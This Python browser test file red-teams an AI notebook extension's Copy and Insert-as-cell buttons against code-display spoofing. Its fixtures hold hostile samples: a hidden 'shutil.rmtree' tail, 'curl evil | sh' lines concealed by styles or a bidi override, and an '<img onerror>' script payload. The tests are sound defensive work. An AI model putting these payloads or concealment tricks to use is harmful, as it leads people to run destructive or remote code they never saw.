"""Outside red team, round 4: the Copy / Insert as cell buttons on the model's code blocks, in a real
JupyterLab in chromium (the built extension in nbagent/labextension/).

Each attack asserts the SAFE behaviour and has a control that shows the test can see the harm:
- right-to-left letters in a block reorder what is drawn (no bidi control needed): the order on screen must
  be the order of the text that Insert puts in the cell (control: the same text in a plain `<pre>` of the
  page is drawn reordered);
- a very long line hides its tail past the block's right edge: what is inserted must be visible in the block
  (control: the same line in a plain `<pre>` of the same width hides it);
- a notebook downloaded from the web holds forged nbagent outputs (one whose block has a raw RIGHT-TO-LEFT
  OVERRIDE, one plain, one styled, one with another kernel's mark): none gets buttons, since none carries
  the mark of the live kernel's blocks (control: the live run's blocks get them); blocks made in this kernel
  by code that read its mark do get them, and those a style hides in part are neither copied nor inserted;
- a Markdown block with an `<img onerror>` inserted as a Markdown cell and rendered runs nothing (control:
  the same markup put into the page does run);
- keys pressed on a focused button never reach the notebook's shortcuts (control: the same key with the
  notebook focused inserts a cell); Insert puts its cell right below the cell whose output holds the block,
  whichever cell is active, and never runs it;
- the saved notebook holds no decoration.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pytest

from .lab import LabPage

pytestmark = pytest.mark.browser

LONG_TAIL = "; import shutil; shutil.rmtree('data')"
LONG = "print('hello')" + " " * 400 + LONG_TAIL
RTL = 'pay("\u05d0", 10, 1000, "\u05d1")'

SETUP = r'''from nbagent import ScriptedModel

model = ScriptedModel([
    "Reordered:\n\n```python\n''' + RTL.replace('"', '\\"') + r'''\n```\n\nLong:\n\n```python\n''' + LONG + r'''\n```\n\n"
    "A note:\n\n```markdown\n<img src=\"nowhere.png\" onerror=\"window.__rt4_pwned = 1\">\n```\n\n"
    "Control:\n\n```python\nprint('control block')\n```",
])'''

AGENT = "run = %agent --model model Show me."


def forged_html(code: str, md_attrs: str = "", before: str = "", mark: str = "") -> str:
    """nbagent's own markup, written by anyone (`mark`: the class of a kernel's blocks, as a live kernel's)."""
    return (f'{before}<div class="nba"><div class="nba-body"><div class="nba-md"{md_attrs}><pre class="nba-code-block '
            f'nba-lang-python {mark}"><code>{code}</code></pre></div></div></div>')


def forged(code: str, md_attrs: str = "", before: str = "", mark: str = "") -> dict:
    """A saved output as a notebook from the web may hold it."""
    return {"output_type": "display_data", "data": {"text/html": forged_html(code, md_attrs, before, mark),
                                                    "text/plain": "<forged>"}, "metadata": {}}


CLIPPED = [
    forged_html("print('clipped by style')\nimport os; os.system('curl evil | sh')  # clipped",
                md_attrs=' style="height: 18px; overflow: hidden"', mark="MARK"),
    forged_html("print('transparent')\n<span class=\"hl-n\">os</span>.system('curl evil | sh')",
                md_attrs=' style="color: transparent"', mark="MARK"),
    forged_html("print('drawn whole')", mark="MARK"),
]
# the same forgeries made in this kernel by code that reads its mark (a cell of the person's, say): the
# clipping defence, for blocks that do get buttons (no style sheet: in a trusted output it styles the page)
MADE_HERE = ("import json\nfrom IPython.display import HTML, display\nfrom nbagent.render.markdown import LIVE_MARK\n"
             f"for h in json.loads({json.dumps(json.dumps(CLIPPED))}):\n    display(HTML(h.replace('MARK', LIVE_MARK)))")


def write(path: Path) -> Path:
    sources = ["%load_ext nbagent", SETUP, AGENT, "# downloaded output", "# downloaded output, no hidden character",
               "# downloaded output, clipped", "# downloaded output, an earlier kernel's mark", MADE_HERE]
    nb = {
        "cells": [{"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {}, "outputs": [],
                   "source": src} for i, src in enumerate(sources)],
        "metadata": {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}},
        "nbformat": 4, "nbformat_minor": 5,
    }
    nb["cells"][3]["outputs"] = [forged("print('downloaded')  # \u202e ;)'tsoh-live'(metsys.so")]
    nb["cells"][4]["outputs"] = [forged("print('downloaded control')")]
    nb["cells"][6]["outputs"] = [forged("print('an earlier kernel')", mark="nba-live-0123456789abcdef01234567")]
    nb["cells"][5]["outputs"] = [
        forged("print('clipped by style')\nimport os; os.system('curl evil | sh')  # clipped",
               md_attrs=' style="height: 18px; overflow: hidden"'),
        forged("print('clipped by sheet')\nimport os; os.system('curl evil | sh')  # sheet",
               before="<style>.nba-md pre code { font-size: 0 !important; }</style>"),
        forged("print('transparent')\n<span class=\"hl-n\">os</span>.system('curl evil | sh')",
               md_attrs=' style="color: transparent"'),
    ]
    path.write_text(json.dumps(nb, indent=1))
    return path


STATIC = ".jp-OutputArea .nba:not(.nba-view)"


def wrap_of(page: LabPage, text: str):
    return page.page.locator(f"{STATIC} .nba-code-wrap:has(pre.nba-code-block:has-text({json.dumps(text)}))").first


# x positions, on screen, of the first character of two pieces of an element's text
ORDER = """([el, first, second]) => {
    const text = el.textContent;
    const at = (offset) => {
        const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
        let seen = 0, n;
        while ((n = walker.nextNode())) {
            if (offset < seen + n.length) {
                const r = document.createRange(); r.setStart(n, offset - seen); r.setEnd(n, offset - seen + 1);
                return r.getBoundingClientRect().left;
            }
            seen += n.length;
        }
        return null;
    };
    return [at(text.indexOf(first)), at(text.indexOf(second))];
}"""

# whether the piece `needle` of the element's text is drawn inside the element's visible box
INSIDE = """([el, needle]) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    const text = el.textContent, start = text.indexOf(needle);
    let seen = 0, n, boxes = [];
    while ((n = walker.nextNode())) {
        const a = Math.max(start, seen), b = Math.min(start + needle.length, seen + n.length);
        if (a < b) { const r = document.createRange(); r.setStart(n, a - seen); r.setEnd(n, b - seen);
                     boxes.push(...r.getClientRects()); }
        seen += n.length;
    }
    const box = el.getBoundingClientRect();
    return boxes.length > 0 && boxes.every(r => r.right <= box.right + 1 && r.left >= box.left - 1);
}"""


# whether every line of the element's text is drawn where a person sees it: each line's box has a size, and a
# point in its middle hits the element (not something over it, not the page beneath a clipping ancestor)
DRAWN = """(el) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    let n, ok = true, any = false;
    while ((n = walker.nextNode())) {
        let start = 0;
        for (const part of n.data.split('\\n')) {
            if (part.trim()) {
                const r = document.createRange(); r.setStart(n, start); r.setEnd(n, start + part.length);
                const box = r.getBoundingClientRect();
                any = true;
                const hit = box.width > 2 && box.height > 2
                    && document.elementFromPoint(box.left + Math.min(box.width / 2, 20), box.top + box.height / 2);
                if (!hit || !el.contains(hit)) ok = false;
            }
            start += part.length + 1;
        }
    }
    return any && ok;
}"""


def plain_pre(page: LabPage, text: str, width: int) -> object:
    """The control: `text` in a plain `<pre>` of the page, `width` pixels wide (no fix of nbagent's)."""
    return page.page.evaluate_handle("""([text, width]) => {
        const pre = document.createElement('pre'); pre.textContent = text;
        pre.style.cssText = `width:${width}px;overflow:auto;font-family:monospace`;
        document.body.append(pre); return pre; }""", [text, width])


def test_what_a_code_block_shows_is_what_insert_puts_in_the_cell(lab):
    path = write(lab.root / "code_block_attacks.ipynb")
    with LabPage(lab, path.name, width=1100, height=1200) as page:
        p = page.page
        page.hide_sidebar()
        bypasses: list[str] = []
        page.run_cell(0)
        page.run_cell(1)
        page.run_cell(2)
        control = wrap_of(page, "print('control block')")
        control.locator(".nba-code-insert").wait_for(state="attached", timeout=60_000)  # control: the live run's
        # the downloaded outputs (saved in the file: nbagent's markup, classes and all) get no buttons, even
        # once this kernel said its mark: none of them carries it
        for forged_text in ("print('downloaded')", "print('downloaded control')", "print('an earlier kernel')",
                            "clipped by style"):
            assert p.locator(f"pre.nba-code-block:has-text({json.dumps(forged_text)})").count() >= 1
            if p.locator(f".nba-code-wrap:has(pre:has-text({json.dumps(forged_text)}))").count():
                bypasses.append(f"a block in a saved output ({forged_text}) got Copy / Insert as cell: nbagent's "
                                "markup in a notebook from the web passes for the live kernel's")

        # 1. bidi without a control character: drawn in the order of the text
        rtl_code = wrap_of(page, "pay(").locator("pre code")
        rtl_code.wait_for(state="attached")
        assert rtl_code.text_content().rstrip("\n") == RTL
        baseline = plain_pre(page, RTL, 600)
        a, b = p.evaluate(ORDER, [baseline, "10,", "1000"])
        assert a > b, "control: a plain <pre> draws `1000` before `10`: the test sees the reordering"
        a, b = p.evaluate(ORDER, [rtl_code.element_handle(), "10,", "1000"])
        if not a < b:
            bypasses.append(f"the block draws {RTL!r} with 1000 before 10 (x {a:.0f} vs {b:.0f}); Insert puts 10 "
                            "first: what is inserted is not what the person read")

        # 2. a very long line: its tail is inside the block, not past its edge
        long_pre = wrap_of(page, "print('hello')").locator("pre")
        width = long_pre.evaluate("el => el.clientWidth")
        baseline = plain_pre(page, LONG, width)
        assert not p.evaluate(INSIDE, [baseline, LONG_TAIL.strip()]), "control: the plain <pre> hides the tail"
        if not p.evaluate(INSIDE, [long_pre.element_handle(), LONG_TAIL.strip()]):
            bypasses.append("the long line's tail is drawn past the block's edge: Insert puts code nobody saw "
                            "in the cell")

        # 3. keys on a focused button never reach the notebook's shortcuts
        before = page.cells()
        p.locator(".jp-Notebook .jp-Cell").nth(1).locator(".jp-InputPrompt").click()
        p.keyboard.press("Escape")
        p.keyboard.press("b")  # control: in the notebook, b inserts a cell below
        page.wait_cells(lambda c: len(c) == len(before) + 1, "control: b in command mode inserted nothing")
        p.keyboard.press("d")
        p.keyboard.press("d")
        now = page.wait_cells(lambda c: len(c) == len(before), "control: d d did not delete the new cell")
        control.hover()
        control.locator(".nba-code-copy").focus()
        assert "nba-code-copy" in p.evaluate("document.activeElement.className")
        for key in ("b", "a", "d", "d", "x", "m", "y", "Shift+Enter", "Control+Enter"):
            p.keyboard.press(key)
            p.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
        p.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
        now = page.cells()
        if [(c["source"], c["markdown"], c["prompt"]) for c in now] != [(c["source"], c["markdown"], c["prompt"])
                                                                       for c in before]:
            bypasses.append("keys on the focused Copy button reached the notebook's shortcuts (cells inserted, "
                            "deleted, changed to Markdown or run)")
            raise AssertionError("\n".join(bypasses))  # what follows needs the notebook as it was

        # 4. Insert, with the first cell active: the new cell goes right below the run's cell, not run
        p.locator(".jp-Notebook .jp-Cell").nth(0).locator(".jp-InputPrompt").click()
        control.hover()
        control.locator(".nba-code-insert").click()
        now = page.wait_cells(lambda c: len(c) == len(before) + 1, "Insert made no cell")
        assert now[3]["source"] == "print('control block')" and not any(ch.isdigit() for ch in now[3]["prompt"])
        assert [c["source"] for c in now[:3]] == [c["source"] for c in before[:3]]

        # 5. a Markdown block with an <img onerror>, inserted and rendered, runs nothing
        p.evaluate("""() => { const d = document.createElement('div');
            d.innerHTML = '<img src="nowhere.png" onerror="window.__rt4_control = 1">'; document.body.append(d); }""")
        p.wait_for_function("() => window.__rt4_control === 1")  # control: this markup does run in this page
        note = wrap_of(page, "onerror")
        note.hover()
        note.locator(".nba-code-insert").click()
        now = page.wait_cells(lambda c: len(c) == len(before) + 2, "Insert on the Markdown block made no cell")
        assert now[4]["markdown"]  # after the control block's cell: one cell's blocks land in the order inserted
        p.locator(".jp-Notebook .jp-Cell").nth(4).locator(".jp-InputPrompt").click()
        p.keyboard.press("Escape")
        p.keyboard.press("Shift+Enter")  # render the Markdown cell, as a person would
        rendered = p.locator(".jp-Notebook .jp-Cell").nth(4).locator(".jp-RenderedMarkdown")
        rendered.wait_for(state="attached")
        p.wait_for_function("el => [...el.querySelectorAll('img')].every(i => i.complete)", arg=rendered.element_handle())
        p.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
        if p.evaluate("() => window.__rt4_pwned") is not None:
            bypasses.append("an inserted Markdown block ran script when rendered")

        # 6. saved: no decoration in the file
        p.keyboard.press("Control+s")
        deadline = time.monotonic() + 30
        while True:
            saved = json.loads(path.read_text())
            if len(saved["cells"]) == len(before) + 2:
                break
            assert time.monotonic() < deadline, "the notebook was not saved"
            time.sleep(0.2)
        whole = re.sub(r"<style>.*?</style>", "", json.dumps(saved), flags=re.S)  # nbagent's own sheet names them
        assert "nba-code-wrap" not in whole and "nba-code-tools" not in whole and "<button" not in whole
        assert not bypasses, "\n".join(bypasses)


def test_a_forged_output_cannot_insert_a_block_it_hides_part_of(lab):
    """Blocks forged with a clipping style on an ancestor (JupyterLab's sanitizer keeps inline styles), made in
    this kernel by code that read its mark (so they do get buttons): Copy and Insert must not put in the
    lines nobody sees."""
    path = write(lab.root / "code_block_attacks_clip.ipynb")
    with LabPage(lab, path.name, width=1100, height=1200) as page:
        p = page.page
        page.run_cell(0)
        page.run_cell(7)
        wrap = p.locator(".nba-code-wrap:has-text('drawn whole')")
        wrap.locator(".nba-code-insert").wait_for(state="attached", timeout=60_000)
        wrap.scroll_into_view_if_needed()
        assert wrap.locator("pre").evaluate(DRAWN), "control: an unclipped block is seen whole by the check"
        before = page.cells()
        wrap.hover()
        wrap.locator(".nba-code-insert").click()  # control: a forged block drawn whole is inserted
        page.wait_cells(lambda c: len(c) == len(before) + 1, "control: Insert on the whole block made no cell")
        tried = []
        for name in ("clipped by style", "transparent"):
            pre = p.locator(f".jp-Cell:has-text('LIVE_MARK') pre.nba-code-block:has-text('{name}')").first
            pre.scroll_into_view_if_needed()
            invisible = pre.evaluate("pre => getComputedStyle(pre.querySelector('code')).color === 'rgba(0, 0, 0, 0)'")
            if not pre.evaluate("pre => !!pre.closest('.nba-code-wrap')") or (pre.evaluate(DRAWN) and not invisible):
                continue  # no buttons, or nothing hidden
            tried.append(name)
            count = len(page.cells())
            box = pre.locator("xpath=..")
            box.hover()
            box.locator(".nba-code-insert").click()
            p.wait_for_function("el => el.textContent !== 'Insert as cell'",
                                arg=box.locator(".nba-code-insert").element_handle())
            assert len(page.cells()) == count, f"Insert put in a block whose lines are hidden ({name})"
            assert box.locator(".nba-code-insert").text_content() != "Inserted"
        assert "clipped by style" in tried, tried  # the attack was tried (the <style> sheet, a transparent colour: JupyterLab drops or overrides them)
